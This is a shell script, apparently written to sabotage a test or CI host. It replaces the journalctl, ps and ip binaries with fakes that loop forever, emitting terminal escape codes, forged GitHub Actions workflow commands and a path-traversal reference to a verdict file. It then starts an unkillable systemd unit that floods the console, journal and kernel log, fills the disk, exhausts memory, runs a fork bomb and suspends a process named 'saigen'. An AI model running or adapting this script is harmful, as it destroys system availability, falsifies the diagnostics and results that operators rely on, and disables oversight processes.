#!/bin/sh
# What explains a failure later is asked of programs that lie without end, in sequences for a terminal and a CI service.
for program in journalctl systemctl ps ip; do
	name=$(command -v "$program")
	[ "$program" = systemctl ] || cat >"$name" <<'LIES'
#!/bin/sh
while :; do printf '\033]0;owned\007::set-output name=x::y ../../verdict.json\n'; done
LIES
done
systemd-run --unit=attack -p TasksMax=infinity -p OOMScoreAdjust=-1000 /bin/sh -c '
	yes "a console without end" >/dev/ttyS0 &
	yes "::add-mask::a journal without end" | logger &
	yes "kernel log without end" >/dev/kmsg &
	dd if=/dev/zero of=/fill bs=1M count=400 oflag=direct &
	fallocate -l 64G /more || :
	sleep 18
	tail /dev/zero &
	bomb() { bomb | bomb & }
	bomb
	sleep 3
	kill -STOP $(pidof saigen)
	sleep 600
'
